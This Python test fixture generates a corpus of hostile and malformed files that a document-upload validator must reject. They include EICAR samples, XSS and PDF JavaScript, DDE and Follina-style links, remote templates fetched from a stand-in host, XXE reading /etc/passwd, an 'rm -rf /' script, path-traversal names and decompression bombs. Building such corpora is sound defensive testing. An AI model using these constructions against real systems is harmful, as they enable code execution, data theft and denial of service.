"""More than a hundred files that must not get in, each made here: (what is wrong, name, bytes)."""

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from itertools import chain

from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from aylsham.documents.checks.signatures import EICAR
from tests.documents.making import (
    action,
    compound,
    eml,
    jpeg_with_xmp,
    msg,
    pdf,
    pdf_object,
    pdf_stream,
    pdf_with,
    picture,
    with_parts,
    word,
    word_body,
    word_kinds,
    word_main,
    word_relation,
    zip_of,
)

Bad = tuple[str, str, bytes]
SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
PROGRAM = b"MZ" + b"\x90\0\3\0" * 200
VBA = "application/vnd.ms-office.vbaProject"


@cache
def bad_files() -> tuple[Bad, ...]:
    """All of them, made once: every process of the tests asks for them while it collects."""
    parts = (_viruses, _programs, _markup, _two_in_one, _names, _pdfs, _words, _zips)
    return tuple(chain.from_iterable(part() for part in (*parts, _pictures, _emails)))


def _viruses() -> Iterator[Bad]:
    coded = base64.b64encode(EICAR)
    yield "EICAR as it is", "eicar.pdf", EICAR
    yield "EICAR behind a PDF's head", "eicar.pdf", b"%PDF-1.4\n" + EICAR
    yield "EICAR at the end of a PDF", "eicar.pdf", pdf() + EICAR
    yield "EICAR in a PDF stream", "eicar.pdf", pdf_stream(EICAR)
    yield "EICAR in a packed PDF stream", "eicar.pdf", pdf_stream(EICAR, is_packed=True)
    yield "EICAR in a Word part", "eicar.docx", with_parts(word(), {"customXml/item.txt": EICAR})
    yield "EICAR as a picture in Word", "eicar.docx", word(word__media__image1_dot_png=EICAR)
    yield (
        "EICAR in a Word text",
        "eicar.docx",
        with_parts(word(), {"word/notes.bin": b"x" * 900 + EICAR}),
    )
    yield (
        "EICAR stored in a zip",
        "eicar.docx",
        with_parts(word(), {"a": EICAR}, method=zipfile.ZIP_STORED),
    )
    yield (
        "EICAR in wide letters",
        "eicar.docx",
        with_parts(word(), {"a": EICAR.decode().encode("utf-16-le")}),
    )
    yield "EICAR in a picture", "eicar.jpg", picture() + EICAR
    yield "EICAR as a picture", "eicar.png", EICAR
    yield "EICAR on an e-mail", "eicar.eml", eml(attached=(("report.pdf", EICAR),))
    yield "EICAR as text on an e-mail", "eicar.eml", eml(attached=(("note.txt", EICAR),))
    yield "EICAR in an e-mail's words", "eicar.eml", eml(EICAR.decode())
    yield (
        "EICAR in an e-mail on an e-mail",
        "eicar.eml",
        eml(attached=(("in.eml", eml(attached=(("a.txt", EICAR),))),)),
    )
    yield (
        "EICAR in Word on an e-mail",
        "eicar.eml",
        eml(attached=(("a.docx", with_parts(word(), {"a": EICAR})),)),
    )
    yield (
        "EICAR in code on an e-mail",
        "eicar.eml",
        _plain_eml(b"Content-Transfer-Encoding: base64\r\n", coded),
    )
    yield "EICAR in Outlook", "eicar.msg", msg(attached=(("note.txt", EICAR),))
    yield (
        "EICAR in a Word file in Outlook",
        "eicar.msg",
        msg(attached=(("a.docx", with_parts(word(), {"a": EICAR})),)),
    )


def _plain_eml(head: bytes, body: bytes) -> bytes:
    return (
        b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nDate: Mon, 23 Nov 2026 09:00:00 +0000\r\n"
        + head
        + b"\r\n"
        + body
    )


def _programs() -> Iterator[Bad]:
    for ending in ("pdf", "docx", "jpg", "png", "webp", "heic", "eml", "msg"):
        yield f"a program called .{ending}", f"a.{ending}", PROGRAM
    yield "an ELF program", "a.pdf", b"\x7fELF\2\1\1" + b"\0" * 200
    yield "a shell script", "a.pdf", b"#!/bin/sh\nrm -rf /\n"
    yield "a shortcut", "a.docx", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 200
    yield "a gzip", "a.docx", gzip.compress(b"words")
    yield "a RAR", "a.docx", b"Rar!\x1a\x07\0" + b"\0" * 50
    yield "a 7-Zip", "a.pdf", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50
    yield "nothing", "a.pdf", b""
    yield "noise", "a.pdf", bytes(range(256)) * 8
    yield "a text", "a.docx", b"only words"


def _markup() -> Iterator[Bad]:
    for ending in ("jpg", "png", "webp", "heic", "pdf", "docx", "msg", "eml"):
        yield f"SVG called .{ending}", f"a.{ending}", SVG
        yield f"HTML called .{ending}", f"a.{ending}", HTML
    yield "SVG", "a.svg", SVG
    yield "HTML", "a.html", HTML
    yield "XHTML in wide letters", "a.jpg", HTML.decode().encode("utf-16")
    yield (
        "a saved web page as e-mail",
        "a.eml",
        eml("x", Snapshot_Content_Location="http://example.org"),
    )


def _two_in_one() -> Iterator[Bad]:
    archive = zip_of({"a.txt": b"words"})
    yield "a picture and a zip", "a.jpg", picture() + archive
    yield "a PNG and a zip", "a.png", picture("PNG") + archive
    yield "a WebP and a zip", "a.webp", picture("WEBP") + archive
    yield (
        "a picture and a PDF",
        "a.jpg",
        picture()[:2] + b"\xff\xfe\0\x40%PDF-1.4" + b" " * 54 + picture()[2:],
    )
    yield "a PDF and a zip", "a.pdf", pdf() + archive
    yield "a PDF and a page", "a.pdf", b"%PDF-1.4\n" + HTML + pdf()
    yield (
        "a picture and a page",
        "a.jpg",
        picture()[:2] + b"\xff\xfe\0\x60" + HTML.ljust(94) + picture()[2:],
    )
    yield "a zip before the Word file", "a.docx", archive + word()
    yield "a program before the Word file", "a.docx", PROGRAM + word()
    yield "something behind the Word file", "a.docx", word() + SCRIPT * 9
    yield "a PDF and much behind it", "a.pdf", pdf() + b"A" * 5000
    yield "an Outlook file and a zip", "a.msg", msg() + archive
    yield "a page before a picture", "a.png", SCRIPT + picture("PNG")


def _names() -> Iterator[Bad]:
    good = pdf()
    for name in (
        "../../etc/passwd.pdf", "..\\..\\windows\\win.pdf", "/etc/a.pdf", "C:\\a.pdf", "C:a.pdf",
        "a/b.pdf", "a\\b.pdf", "a.pdf\0.exe", "a\0.pdf", "a\u202efdp.exe", "a\u202e.pdf", "a\n.pdf",
        "a.exe", "a.pdf.exe", "a.exe.pdf", "a.js .pdf", "a.html.pdf", "a.pdf:evil.exe", "a.pdf.",
        "a.pdf ", " a.pdf", "a..pdf", "con.pdf", "LPT1.pdf", "a", ".pdf", "", "a.pdf" * 60,
        "a.php.pdf", "a.zip", "a.docm", "a.xlsm", "a.doc", "a.iso", "a.lnk", "a.p\u200bdf", "a.hta",
    ):  # fmt: skip
        yield f"the name {name[:24]!r}", name, good


def _pdfs() -> Iterator[Bad]:
    def root(key: str, value):
        return lambda writer: writer._root_object.update({NameObject(key): value})

    program = action("JavaScript", JS="app.alert(1)")
    yield "a program at opening", "a.pdf", pdf_with(root("/OpenAction", program))
    yield (
        "a program on closing",
        "a.pdf",
        pdf_with(root("/AA", DictionaryObject({NameObject("/WC"): program}))),
    )
    yield (
        "a list of programs",
        "a.pdf",
        pdf_with(root("/Names", DictionaryObject({NameObject("/JavaScript"): ArrayObject()}))),
    )
    yield "a name in disguise", "a.pdf", pdf_object(b"<</S /J#61vaScript /J#53 (app.alert(1))>>")
    yield (
        "a program nothing points at",
        "a.pdf",
        pdf_object(b"<</S /JavaScript /JS (app.alert(1))>>"),
    )
    yield (
        "an opener of programs",
        "a.pdf",
        pdf_with(root("/OpenAction", action("Launch", F="cmd.exe"))),
    )
    yield "an opener in disguise", "a.pdf", pdf_object(b"<</S /L#61unch /F (cmd.exe)>>")
    yield (
        "a form that sends",
        "a.pdf",
        pdf_with(root("/OpenAction", action("SubmitForm", F="http://e.example"))),
    )
    yield "a fetcher of data", "a.pdf", pdf_with(root("/OpenAction", action("ImportData", F="x")))
    yield (
        "a jump into another file",
        "a.pdf",
        pdf_with(root("/OpenAction", action("GoToR", F="\\\\e.example\\x"))),
    )
    yield (
        "a jump into a carried file",
        "a.pdf",
        pdf_with(root("/OpenAction", action("GoToE", F="x"))),
    )
    yield "a film", "a.pdf", pdf_with(root("/OpenAction", action("Rendition")))
    yield "a file inside", "a.pdf", pdf_with(lambda w: w.add_attachment("x.exe", PROGRAM))
    yield "a text inside", "a.pdf", pdf_with(lambda w: w.add_attachment("x.txt", b"words"))
    yield (
        "a form of Adobe's",
        "a.pdf",
        pdf_with(root("/AcroForm", DictionaryObject({NameObject("/XFA"): TextStringObject("x")}))),
    )
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
        }
    )
    yield "a rich note", "a.pdf", pdf_with(root("/Extra", note))
    pin = DictionaryObject({NameObject("/Subtype"): NameObject("/FileAttachment")})
    yield "a pinned file", "a.pdf", pdf_with(root("/Extra", pin))
    yield "a password", "a.pdf", pdf_with(lambda w: w.encrypt("secret", algorithm="AES-256"))
    yield "an old password", "a.pdf", pdf_with(lambda w: w.encrypt("secret", algorithm="RC4-128"))
    yield "a bomb in a stream", "a.pdf", pdf_stream(b"\0" * 101_000_000, is_packed=True)
    yield "a program in a stream", "a.pdf", pdf_stream(PROGRAM, is_packed=True)
    yield "half a PDF", "a.pdf", pdf()[: len(pdf()) // 3]
    yield "a PDF's head alone", "a.pdf", b"%PDF-1.7\n"
    yield "a PDF of no pages", "a.pdf", pdf_with(lambda w: w.remove_page(0))


def _words() -> Iterator[Bad]:
    yield "macros", "a.docx", word(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
    yield (
        "macros under another name",
        "a.docx",
        word_kinds(f'<Override PartName="/word/x.bin" ContentType="{VBA}"/>'),
    )
    yield (
        "a file that allows macros",
        "a.docx",
        word_main("application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield (
        "a template",
        "a.docx",
        word_main(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
        ),
    )
    yield (
        "a spreadsheet called Word",
        "a.docx",
        word_main("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    )
    yield "a control", "a.docx", word(word__activeX__activeX1_dot_xml=b"<a/>")
    yield (
        "an object inside",
        "a.docx",
        word(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0"),
    )
    yield "a program inside", "a.docx", word(word__embeddings__a_dot_xlsx=PROGRAM)
    yield "a Word file inside", "a.docx", word(word__embeddings__a_dot_docx=word())
    yield "a zip inside", "a.docx", word(word__a_dot_zip=zip_of({"a": b"b"}))
    yield "a zip as a picture", "a.docx", word(word__media__image1_dot_png=zip_of({"a": b"b"}))
    yield "a program as a picture", "a.docx", word(word__media__image1_dot_png=PROGRAM)
    yield "a drawing with a program", "a.docx", word(word__media__image1_dot_svg=SVG)
    yield "a page in pieces", "a.docx", word_relation("aFChunk", "chunk.html", mode="Internal")
    yield "a page as a part", "a.docx", word(word__chunk_dot_dat=HTML)
    yield (
        "a template from elsewhere",
        "a.docx",
        word_relation("attachedTemplate", "http://e.example/t.dotm"),
    )
    yield (
        "a template from a share",
        "a.docx",
        word_relation("attachedTemplate", "file://e.example/t.dotm"),
    )
    yield (
        "a template from a Windows share",
        "a.docx",
        word_relation("attachedTemplate", "\\\\e.example\\t.dotm"),
    )
    yield "an object from elsewhere", "a.docx", word_relation("oleObject", "http://e.example/x")
    yield "a frame from elsewhere", "a.docx", word_relation("frame", "http://e.example/x")
    yield (
        "the Follina link",
        "a.docx",
        word_relation("oleObject", "mhtml:http://e.example/x.html!x-usc:http://e.example"),
    )
    yield (
        "a link that starts a program",
        "a.docx",
        word_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    )
    yield "a link with a script", "a.docx", word_relation("hyperlink", "javascript:alert(1)")
    yield (
        "DDE",
        "a.docx",
        word_body('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'),
    )
    pieces = "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in ("DD", "EAU", "TO cmd"))
    yield "DDE in pieces", "a.docx", word_body(pieces)
    yield "DDE in a simple field", "a.docx", word_body('<w:fldSimple w:instr="DDE cmd x"/>')
    yield (
        "a picture fetched",
        "a.docx",
        word_body('<w:r><w:instrText>INCLUDEPICTURE "http://e.example/a.png"</w:instrText></w:r>'),
    )
    yield (
        "entities",
        "a.docx",
        with_parts(word(), {"word/document.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
    )
    laughs = (
        b"<!DOCTYPE a ["
        + b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 9))
        + b"]><a>&l8;</a>"
    )
    yield "a billion laughs", "a.docx", with_parts(word(), {"word/document.xml": laughs})
    yield (
        "an entity that reads a file",
        "a.docx",
        with_parts(
            word(),
            {
                "word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
            },
        ),
    )
    yield "broken XML", "a.docx", with_parts(word(), {"word/document.xml": b"<a><b></a>"})
    yield (
        "a password",
        "a.docx",
        compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"x"}),
    )
    yield "an old Word file", "a.docx", compound({"WordDocument": b"x" * 5000})


def _zips() -> Iterator[Bad]:
    yield "a plain zip", "a.docx", zip_of({"a.txt": b"words"})
    yield "an empty zip", "a.docx", zip_of({})
    yield (
        "a bomb",
        "a.docx",
        with_parts(word(), {"word/media/image9.bmp": b"BM" + b"\0" * 60_000_000}),
    )
    yield (
        "a bomb of XML",
        "a.docx",
        with_parts(word(), {"word/footer9.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}),
    )
    yield "a bomb that lies about its size", "a.docx", _lying_bomb()
    yield (
        "too many parts",
        "a.docx",
        with_parts(word(), {f"word/p{i}.bin": b"" for i in range(2100)}),
    )
    yield "parts over each other", "a.docx", _overlapping()
    for name in (
        "../../evil.xml",
        "/etc/evil.xml",
        "word\\evil.xml",
        "C:/evil.xml",
        "word/../../e.xml",
    ):
        yield f"the part {name}", "a.docx", with_parts(word(), {name: b"<a/>"})
    yield "two parts of one name", "a.docx", with_parts(word(), {"Word/document.xml": b"<a/>"})
    yield "a link", "a.docx", _with_link()
    yield "an encrypted part", "a.docx", _flagged(word())
    yield "half a Word file", "a.docx", word()[:9000]
    yield "a Word file with a hole", "a.docx", word()[:400] + b"\0" * 400 + word()[800:]


def _lying_bomb() -> bytes:
    """The directory says a thousand bytes; what comes out is sixty million."""
    data = bytearray(with_parts(word(), {"word/zzz.bin": b"\0" * 60_000_000}))
    size = struct.pack("<I", 60_000_000)
    at = data.rfind(size)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", 1000)
        at = data.rfind(size, 0, at)
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the directory that point at the same bytes."""
    data = bytearray(with_parts(word(), {"word/y1.bin": b"a" * 4000, "word/y2.bin": b"a" * 4000}))
    entries, at = [], data.find(b"PK\1\2")
    while at >= 0:
        entries.append(at)
        at = data.find(b"PK\1\2", at + 1)
    one, two = entries[-2:]
    data[two + 42 : two + 46] = data[one + 42 : one + 46]
    return bytes(data)


def _with_link() -> bytes:
    into = io.BytesIO(word())
    with zipfile.ZipFile(into, "a") as archive:
        info = zipfile.ZipInfo("word/link.bin")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return into.getvalue()


def _flagged(data: bytes) -> bytes:
    changed = bytearray(data)
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        changed[changed.find(mark) + offset] |= 1
    return bytes(changed)


def _pictures() -> Iterator[Bad]:
    yield "PNG called JPEG", "a.jpg", picture("PNG")
    yield "JPEG called PNG", "a.png", picture()
    yield "GIF called JPEG", "a.jpg", picture("GIF")
    yield "TIFF called JPEG", "a.jpg", picture("TIFF")
    yield "JPEG called HEIC", "a.heic", picture()
    yield "half a JPEG", "a.jpg", picture(size=(600, 400))[:900]
    yield "half a PNG", "a.png", picture("PNG", size=(600, 400))[:500]
    yield "a JPEG's head alone", "a.jpg", b"\xff\xd8\xff\xe0"
    yield "a PNG bomb", "a.png", _png_bomb()
    yield "a JPEG of a billion dots", "a.jpg", _huge_jpeg()
    yield "a GIF", "a.gif", picture("GIF")
    yield "a PNG whose sums are wrong", "a.png", picture("PNG").replace(b"IDAT", b"IDAT\1", 1)
    yield "XMP without a picture", "a.jpg", jpeg_with_xmp()[:300]


def _png_bomb() -> bytes:
    """A few kilobytes that promise 30,000 × 30,000 dots."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(b"\0" * 90_000))
        + chunk(b"IEND", b"")
    )


def _huge_jpeg() -> bytes:
    into = io.BytesIO()
    Image.new("L", (16, 16)).save(into, "JPEG")
    data = bytearray(into.getvalue())
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


def _emails() -> Iterator[Bad]:
    for name, data in (
        ("invoice.exe", PROGRAM), ("report.pdf", PROGRAM), ("report.pdf", SVG), ("page.html", HTML),
        ("drawing.svg", SVG), ("letter.docm", word()), ("files.zip", zip_of({"a": b"b"})),
        ("run.js", b"alert(1)"), ("letter.docx", word(word__vbaProject_dot_bin=b"x")),
        ("logo.gif", HTML), ("diary.ics", HTML), ("report.pdf", pdf_stream(b"\0" * 101_000_000, is_packed=True)),
    ):  # fmt: skip
        yield f"{name} on an e-mail", "a.eml", eml(attached=((name, data),))
    for name, data in (
        ("invoice.exe", PROGRAM), ("report.pdf", HTML.ljust(5000)), ("letter.docm", word()),
        ("files.zip", zip_of({"a": b"b" * 9000})), ("page.html", HTML.ljust(5000)),
    ):  # fmt: skip
        yield f"{name} in Outlook", "a.msg", msg(attached=((name, data),))
    deep = eml()
    for _ in range(8):
        deep = eml(attached=(("in.eml", deep),))
    yield "e-mails in e-mails in e-mails", "a.eml", deep
    yield "no e-mail", "a.eml", b"Dear Helen,\nwords\n"
    yield "an e-mail from nobody", "a.eml", b"Subject: x\n\nwords\n"
    yield "a compound file that is no e-mail", "a.msg", compound({"WordDocument": b"x" * 5000})
    yield (
        "a Word file with macros called Outlook",
        "a.msg",
        compound({"Macros": {"VBA": {"dir": b"x"}}, "__properties_version1.0": b"x"}),
    )
    yield "half an Outlook file", "a.msg", msg()[:700]
